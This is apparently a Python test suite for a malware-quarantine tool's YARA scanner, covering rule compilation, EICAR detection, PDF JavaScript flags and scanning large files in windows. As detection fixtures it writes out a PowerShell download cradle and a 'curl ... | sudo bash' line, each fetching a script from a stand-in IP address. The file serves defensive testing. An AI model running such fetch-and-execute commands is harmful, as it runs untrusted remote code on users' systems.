"""The YARA scanner: bundled rules and the user's own, including ones that do not compile."""

from __future__ import annotations

from pathlib import Path

from tests.system.clamd_fixture import EICAR
from zionwm.quarantine.audit import yara_scan
from zionwm.quarantine.report import Finding, Verdict
from zionwm.quarantine.worker import AuditSettings


def rules_of(findings: list[Finding]) -> set[str]:
    return {f.rule for f in findings}


def test_bundled_rules_compile() -> None:
    assert yara_scan.bundled_rules() is not None
    assert len(yara_scan.rule_files(yara_scan.BUNDLED_RULES_DIR)) >= 3


def test_eicar_is_malicious() -> None:
    findings = yara_scan.scan(EICAR, "eicar.com", None)
    assert [(f.rule, f.verdict) for f in findings] == [("Eicar_Test_File", Verdict.MALICIOUS)]


def test_eicar_string_inside_other_text_is_not_the_test_file() -> None:
    assert yara_scan.scan(b"quoted: " + EICAR, "notes.txt", None) == []


def test_powershell_download_cradle(tmp_path: Path) -> None:
    path = tmp_path / "run.ps1"
    path.write_text(
        "$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://198.51.100.4/a.ps1')\n"
    )
    findings = yara_scan.scan(str(path), "run.ps1", None)
    assert rules_of(findings) == {"PowerShell_Download_Cradle"}
    assert findings[0].verdict is Verdict.SUSPICIOUS


def test_curl_pipe_sh() -> None:
    findings = yara_scan.scan(b"curl -fsSL http://198.51.100.4/i.sh | sudo bash\n", "i.txt", None)
    assert rules_of(findings) == {"Shell_Pipe_To_Interpreter"}


def test_pdf_javascript_rule_sees_escaped_names() -> None:
    pdf = b"%PDF-1.4\n1 0 obj << /S /J#61vaScript /JS (x) >> endobj\n"
    assert rules_of(yara_scan.scan(pdf, "a.pdf", None)) == {
        "PDF_JavaScript",
        "PDF_Escaped_Action_Name",
    }
    plain = b"%PDF-1.4\n1 0 obj << /S /JavaScript /JS (x) >> endobj\n"
    assert rules_of(yara_scan.scan(plain, "a.pdf", None)) == {"PDF_JavaScript"}


def test_clean_text_has_no_matches() -> None:
    assert yara_scan.scan(b"Dear team, the report is attached.\n", "a.txt", None) == []


def test_user_rules_apply_and_a_broken_file_is_reported_not_fatal(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "good.yar").write_text(
        'rule Our_Secret_Marker { meta: verdict = "malicious" strings: $a = "zz-marker-zz" '
        "condition: $a }\n"
    )
    (rules / "plain.yara").write_text('rule No_Meta { strings: $a = "zz-marker" condition: $a }\n')
    (rules / "broken.yar").write_text("rule Broken { condition: nonsense_identifier }\n")
    (rules / "ignored.txt").write_text("not a rule file\n")
    settings = AuditSettings(yara_rule_dirs=(str(rules), str(tmp_path / "missing")))
    findings = yara_scan.scan(b"xx zz-marker-zz xx", "a.bin", settings)
    by_rule = {f.rule: f for f in findings}
    assert by_rule["Our_Secret_Marker"].verdict is Verdict.MALICIOUS
    assert by_rule["No_Meta"].verdict is Verdict.SUSPICIOUS  # no verdict meta: suspicious
    assert by_rule["user-rule-compile-error"].verdict is Verdict.CLEAN
    assert "broken.yar" in by_rule["user-rule-compile-error"].detail
    assert by_rule["user-rule-dir-missing"].verdict is Verdict.CLEAN


def test_verdict_meta_parsing() -> None:
    assert yara_scan.verdict_of({"verdict": "MALICIOUS"}) is Verdict.MALICIOUS
    assert yara_scan.verdict_of({"verdict": "cannot-inspect"}) is Verdict.CANNOT_INSPECT
    assert yara_scan.verdict_of({"verdict": "bogus"}) is Verdict.SUSPICIOUS
    assert yara_scan.verdict_of({}) is Verdict.SUSPICIOUS


def test_large_file_is_matched_in_windows_across_the_seams(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "m.yar").write_text(
        'rule Seam_Marker { strings: $a = "seam-marker-0123456789" condition: $a }\n'
        'rule Tail_Marker { strings: $a = "tail-marker-9876543210" condition: $a }\n'
    )
    path = tmp_path / "big.img"
    with open(path, "wb") as f:
        f.truncate(yara_scan.WINDOW + (8 << 20))  # sparse: costs no disk
        f.seek(yara_scan.WINDOW - 10)  # straddles the end of the first window
        f.write(b"seam-marker-0123456789")
        f.seek(yara_scan.WINDOW + (4 << 20))
        f.write(b"tail-marker-9876543210")
    findings = yara_scan.scan(str(path), "big.img", AuditSettings(yara_rule_dirs=(str(rules),)))
    assert rules_of(findings) == {"Seam_Marker", "Tail_Marker"}
